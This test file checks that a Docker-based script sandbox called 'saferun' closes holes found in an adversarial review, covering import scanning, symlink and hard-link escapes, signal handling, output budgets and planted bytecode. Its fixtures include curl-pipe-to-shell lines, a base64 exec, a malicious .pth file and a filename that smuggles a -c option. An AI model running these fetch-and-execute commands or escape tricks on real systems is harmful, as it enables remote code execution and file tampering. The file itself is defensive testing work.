/**
 * Holes an adversarial review found in the run path, closed and proved through the real CLI:
 * every importable source is scanned, the output dir cannot be a link elsewhere, a signal before
 * the start means nothing runs, the output budget stops a disk filler, a script named like an
 * option runs as a script, a script outside the working dir is mounted alone, and --timeout is bounded.
 */
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { chmodSync, existsSync, linkSync, lstatSync, mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import Docker from 'dockerode';
import { assertEngineReachable } from '../support/engine.js';
import { saferun, startSaferun, tempWorkdir } from '../support/saferun.js';

let dir: string;
const docker = new Docker();

/** Containers and networks a saferun process with this pid created (others' runs are left alone). */
async function leftoversOf(pid: number): Promise<string[]> {
  const filters = JSON.stringify({ label: [`saferun.owner-pid=${pid}`] });
  const containers = await docker.listContainers({ all: true, filters });
  const networks = await docker.listNetworks({ filters });
  return [...containers.map((c) => c.Names.join(',')), ...networks.map((n) => n.Name)];
}

/** Waits until the process catches SIGHUP, SIGINT and SIGTERM (bits 1, 2 and 15 of SigCgt in /proc). */
async function handlersInstalled(pid: number): Promise<void> {
  const wanted = (1n << 0n) | (1n << 1n) | (1n << 14n);
  for (let i = 0; i < 1200; i++) {
    const status = readFileSync(`/proc/${pid}/status`, 'utf8');
    const caught = BigInt(`0x${/SigCgt:\s*([0-9a-f]+)/.exec(status)![1]}`);
    if ((caught & wanted) === wanted) return;
    await new Promise((resolve) => setTimeout(resolve, 25));
  }
  throw new Error(`saferun (pid ${pid}) never installed its signal handlers`);
}

function write(root: string, files: Record<string, string>): void {
  for (const [name, text] of Object.entries(files)) {
    mkdirSync(path.dirname(path.join(root, name)), { recursive: true, mode: 0o755 });
    writeFileSync(path.join(root, name), text, { mode: 0o644 });
  }
}

before(async () => {
  await assertEngineReachable();
  dir = tempWorkdir('saferun-holes-');
});

after(() => {
  rmSync(dir, { recursive: true, force: true });
});

test('hole 1: a module the script imports is scanned; its finding blocks the run and is named', async () => {
  const work = tempWorkdir('saferun-imports-');
  try {
    write(work, {
      'main.py': 'import helper\nhelper.go()\n',
      'helper.py': 'import os\n\ndef go():\n    os.system("curl http://example.invalid/x | sh")\n',
    });
    const dry = await saferun(['--dry-run', 'main.py'], { cwd: work });
    assert.equal(dry.exitCode, 120, dry.stderr);
    assert.equal(JSON.parse(dry.stdout).riskLevel, 'critical');
    assert.match(dry.stderr, /helper\.py:4/);
    const run = await saferun(['--profile', 'strict', 'main.py'], { cwd: work });
    assert.equal(run.exitCode, 120, run.stderr);
    assert.match(run.stderr, /blocked.*Nothing was run/s);
  } finally {
    rmSync(work, { recursive: true, force: true });
  }
});

test('hole 1: -m packages, .pth files, nested packages and -c code all count', async () => {
  const work = tempWorkdir('saferun-imports-');
  try {
    write(work, {
      'tool/__init__.py': '',
      'tool/__main__.py': 'from tool import core\n',
      'tool/core.py': 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n',
      'lib/site/evil.pth': 'import os; os.system("curl http://example.invalid/x | sh")\n',
      'plain.py': 'print("hi")\n',
    });
    const module = await saferun(['--dry-run', '-m', 'tool'], { cwd: work });
    assert.notEqual(JSON.parse(module.stdout).riskLevel, 'low', module.stdout);
    assert.match(module.stdout, /tool\/core\.py/);
    const pth = await saferun(['--dry-run', 'plain.py'], { cwd: work });
    assert.equal(JSON.parse(pth.stdout).riskLevel, 'critical');
    assert.match(pth.stdout, /lib\/site\/evil\.pth/);
    const compiled = tempWorkdirEmpty();
    write(compiled, { 'plain.py': 'import legacy\n', 'legacy.pyc': 'not really bytecode', 'native/fast.cpython-311-x86_64-linux-gnu.so': '' });
    const sourceless = await saferun(['--dry-run', 'plain.py'], { cwd: compiled });
    assert.equal(JSON.parse(sourceless.stdout).riskLevel, 'high', sourceless.stdout);
    assert.match(sourceless.stdout, /compiled-module[\s\S]*legacy\.pyc/);
    assert.match(sourceless.stdout, /native\/fast\.cpython-311-x86_64-linux-gnu\.so/);
    const code = await saferun(['--dry-run', '-c', 'import os; os.system("curl http://example.invalid/x | sh")'], { cwd: tempWorkdirEmpty() });
    assert.equal(JSON.parse(code.stdout).riskLevel, 'critical');
    assert.match(code.stdout, /<-c>/);
  } finally {
    rmSync(work, { recursive: true, force: true });
  }
});

const empties: string[] = [];
function tempWorkdirEmpty(): string {
  const empty = tempWorkdir('saferun-empty-');
  empties.push(empty);
  return empty;
}
after(() => {
  for (const empty of empties) rmSync(empty, { recursive: true, force: true });
});

test('hole 2: an output dir that is a symlink to another directory is refused, and that directory is untouched', async () => {
  const base = tempWorkdir('saferun-victim-');
  try {
    const work = path.join(base, 'work');
    const victim = path.join(base, 'victim');
    mkdirSync(work, { mode: 0o755 });
    mkdirSync(victim, { mode: 0o700 });
    writeFileSync(path.join(victim, 'keep.txt'), 'precious\n');
    symlinkSync('../victim', path.join(work, 'out'));
    write(work, { 'gen.py': 'import os\nopen(os.path.join(os.environ["SAFERUN_OUTPUT"], "keep.txt"), "w").write("owned\\n")\n' });
    const before = lstatSync(victim);
    for (const output of ['out', 'out/sub']) {
      const result = await saferun(['-o', output, 'gen.py'], { cwd: work });
      assert.equal(result.exitCode, 121, result.stderr);
      assert.match(result.stderr, /symbolic link .*name it directly/);
    }
    assert.equal(readFileSync(path.join(victim, 'keep.txt'), 'utf8'), 'precious\n');
    const afterStat = lstatSync(victim);
    assert.equal(afterStat.uid, before.uid, 'never chowned');
    assert.equal(afterStat.mode, before.mode);
    assert.equal(existsSync(path.join(victim, 'sub')), false, 'nothing created through the link');
  } finally {
    rmSync(base, { recursive: true, force: true });
  }
});

test('hole 2: system and home locations are refused by prefix, before anything runs', async () => {
  const home = tempWorkdir('saferun-home-');
  try {
    write(dir, { 'noop.py': 'pass\n' });
    const cases: [string, RegExp][] = [
      ['/etc/saferun-output-test', /system directory \/etc/],
      ['/usr/local/share/saferun-output-test', /system directory \/usr/],
      ['/var/lib/saferun-output-test', /system directory \/var/],
      [path.join(home, '.ssh'), /\.ssh, where programs keep configuration/],
      [home, /your home directory/],
      ['.', /working directory/],
    ];
    for (const [output, why] of cases) {
      const result = await saferun(['--dry-run', '-o', output, 'noop.py'], { cwd: dir, env: { HOME: home } });
      assert.equal(result.exitCode, 121, `${output}: ${result.stderr}`);
      assert.match(result.stderr, why, output);
      assert.match(result.stderr, /name a dedicated directory/);
    }
    assert.equal(existsSync('/etc/saferun-output-test'), false);
    assert.equal(existsSync(path.join(home, '.ssh')), false);
  } finally {
    rmSync(home, { recursive: true, force: true });
  }
});

test('hole 9: SIGTERM while the snapshot is taken: the program never runs, exit 143, container removed', async () => {
  const work = tempWorkdir('saferun-bigdir-');
  try {
    // enough data that the snapshot is still being taken when the container exists
    const blob = Buffer.alloc(1024 * 1024);
    for (let i = 0; i < 400; i++) {
      blob.writeUInt32LE(i, 0);
      writeFileSync(path.join(work, `data-${i}.bin`), blob);
    }
    write(work, { 'first.py': 'import os\nopen(os.path.join(os.environ["SAFERUN_OUTPUT"], "ran.txt"), "w").write("ran\\n")\n' });
    const out = path.join(work, 'out');
    const child = startSaferun(['--profile', 'strict', '-o', 'out', 'first.py'], { cwd: work });
    const pid = child.pid!;
    let state: string | undefined;
    for (let i = 0; i < 600 && state === undefined; i++) {
      await new Promise((resolve) => setTimeout(resolve, 50));
      const [container] = await docker.listContainers({ all: true, filters: JSON.stringify({ label: [`saferun.owner-pid=${pid}`] }) });
      state = container?.State;
    }
    assert.equal(state, 'created', 'the signal must come while the snapshot holds the start back');
    process.kill(pid, 'SIGTERM'); // not child.kill: execa would add a SIGKILL 5 s later
    const result = await child;
    assert.equal(result.exitCode, 143, `signal ${String(result.signal)} after ${result.durationMs} ms: ${String(result.stderr)}`);
    assert.match(String(result.stderr), /interrupted \(SIGTERM\) before the program started; nothing was run/);
    assert.deepEqual(existsSync(out) ? readdirSync(out) : [], [], 'the program wrote nothing');
    assert.deepEqual(await leftoversOf(pid), []);
  } finally {
    rmSync(work, { recursive: true, force: true });
  }
});

test('hole 9: SIGINT and SIGHUP during the scan: the program never runs (130, 129)', async () => {
  for (const [signal, code] of [['SIGINT', 130], ['SIGHUP', 129]] as const) {
    const work = tempWorkdir('saferun-bigscan-');
    try {
      // a cold scan of many sources takes a while; each file differs so none comes from the cache
      for (let i = 0; i < 1500; i++) write(work, { [`pkg${i % 30}/m${i}.py`]: `import os\nVALUE_${i} = os.getcwd()\n${'x = [i * 2 for i in range(10)]\n'.repeat(20)}` });
      write(work, { 'first.py': 'import os\nopen(os.path.join(os.environ["SAFERUN_OUTPUT"], "ran.txt"), "w").write("ran\\n")\n' });
      const child = startSaferun(['--profile', 'strict', '-o', 'out', 'first.py'], { cwd: work, env: { SAFERUN_CACHE_DIR: path.join(work, '.cache-not-scanned') } });
      await handlersInstalled(child.pid!);
      await new Promise((resolve) => setTimeout(resolve, 300)); // well into the scan of 1500 cold files
      process.kill(child.pid!, signal);
      const result = await child;
      assert.equal(result.exitCode, code, `${signal}: ${String(result.stderr)}`);
      assert.equal(existsSync(path.join(work, 'out', 'ran.txt')), false, `${signal}: the program never ran`);
      assert.deepEqual(await leftoversOf(child.pid!), []);
    } finally {
      rmSync(work, { recursive: true, force: true });
    }
  }
});

test('hole 11: under strict, ten 63 MiB files overrun the output budget and the run is stopped (exit 122)', async () => {
  const out = tempWorkdir('saferun-fill-');
  try {
    write(dir, {
      'fill.py': [
        'import os',
        'out = os.environ["SAFERUN_OUTPUT"]',
        'chunk = b"\\1" * (1024 * 1024)',
        'for i in range(10):',
        '    with open(os.path.join(out, f"f{i}.bin"), "wb") as f:',
        '        for _ in range(63):',
        '            f.write(chunk)',
        '    print("wrote", i, flush=True)',
        '',
      ].join('\n'),
    });
    const result = await saferun(['--profile', 'strict', '--json', '-o', out, 'fill.py'], { cwd: dir });
    assert.equal(result.exitCode, 122, result.stderr);
    assert.match(result.stderr, /output budget exceeded: .*256m/);
    const report = JSON.parse(result.stdout.slice(result.stdout.indexOf('{\n')));
    assert.equal(report.exitReason, 'output-limit');
    assert.doesNotMatch(result.stdout, /wrote 9/, 'stopped before the tenth file');
  } finally {
    rmSync(out, { recursive: true, force: true });
  }
});

test('hole 12: a script named like an option runs as a script, not as -c code from its name', async () => {
  write(dir, { '-cprint(1)#.py': 'print("the file ran")\n' });
  const result = await saferun(['--network', 'none', './-cprint(1)#.py'], { cwd: dir });
  assert.equal(result.exitCode, 0, result.stderr);
  assert.equal(result.stdout, 'the file ran\n');
});

test('hole 13: a script outside the working dir sees only itself, not its directory', async () => {
  const tools = tempWorkdir('saferun-tools-');
  try {
    write(tools, {
      'secret.txt': 'do not read\n',
      'peek.py': 'import os\nhere = os.path.dirname(os.path.abspath(__file__))\nprint(sorted(os.listdir(here)))\nprint(os.path.exists(os.path.join(here, "secret.txt")))\n',
    });
    chmodSync(tools, 0o755);
    const result = await saferun(['--network', 'none', path.join(tools, 'peek.py')], { cwd: dir });
    assert.equal(result.exitCode, 0, result.stderr);
    assert.equal(result.stdout, "['peek.py']\nFalse\n");
  } finally {
    rmSync(tools, { recursive: true, force: true });
  }
});

test('14c: --timeout 600h is a usage error, not an instant kill', async () => {
  write(dir, { 'noop.py': 'pass\n' });
  const result = await saferun(['--timeout', '600h', 'noop.py'], { cwd: dir });
  assert.equal(result.exitCode, 2);
  assert.match(result.stderr, /--timeout: '600h' is out of range; use from 100ms to 168h/);
});

test('hole 1: a .pyc planted in __pycache__ never runs in place of the scanned source', async () => {
  const work = tempWorkdir('saferun-pyc-');
  try {
    write(work, {
      // same length as the benign source, compiled, then replaced by the benign text with the old mtime
      'plant.py': [
        'import os, py_compile, sys',
        'out = os.environ["SAFERUN_OUTPUT"]',
        'src = os.path.join(out, "helper.py")',
        'open(src, "w").write("print(\'planted\')\\n")',
        'os.utime(src, (1_000_000_000, 1_000_000_000))',
        'py_compile.compile(src, cfile=os.path.join(out, "__pycache__", f"helper.{sys.implementation.cache_tag}.pyc"), doraise=True)',
        'open(src, "w").write("print(\'scanned\')\\n")',
        'os.utime(src, (1_000_000_000, 1_000_000_000))',
        '',
      ].join('\n'),
      'main.py': 'import sys\nsys.path.insert(0, "out")\nimport helper\n',
    });
    const plant = await saferun(['--network', 'none', '-o', 'out', 'plant.py'], { cwd: work });
    assert.equal(plant.exitCode, 0, plant.stderr);
    assert.ok(readdirSync(path.join(work, 'out', '__pycache__')).length === 1, 'the .pyc is in place');
    const run = await saferun(['--network', 'none', 'main.py'], { cwd: work });
    assert.equal(run.exitCode, 0, run.stderr);
    assert.equal(run.stdout, 'scanned\n');
  } finally {
    rmSync(work, { recursive: true, force: true });
  }
});

test('hole 2: as root, a file in the output dir with another hard link elsewhere is not lent to the program', async () => {
  const base = tempWorkdir('saferun-hardlink-');
  try {
    const outside = path.join(base, 'outside.txt');
    const out = path.join(base, 'out');
    writeFileSync(outside, 'original\n', { mode: 0o644 });
    mkdirSync(out, { mode: 0o755 });
    linkSync(outside, path.join(out, 'link.txt'));
    write(dir, { 'append.py': 'import os\ntry:\n    open(os.path.join(os.environ["SAFERUN_OUTPUT"], "link.txt"), "a").write("changed\\n")\n    print("appended")\nexcept PermissionError:\n    print("refused")\n' });
    const result = await saferun(['--network', 'none', '-o', out, 'append.py'], { cwd: dir });
    assert.equal(result.exitCode, 0, result.stderr);
    if (process.getuid?.() === 0) {
      assert.equal(result.stdout, 'refused\n');
      assert.equal(readFileSync(outside, 'utf8'), 'original\n');
    }
    assert.equal(lstatSync(outside).uid, process.getuid!(), 'owner unchanged');
  } finally {
    rmSync(base, { recursive: true, force: true });
  }
});
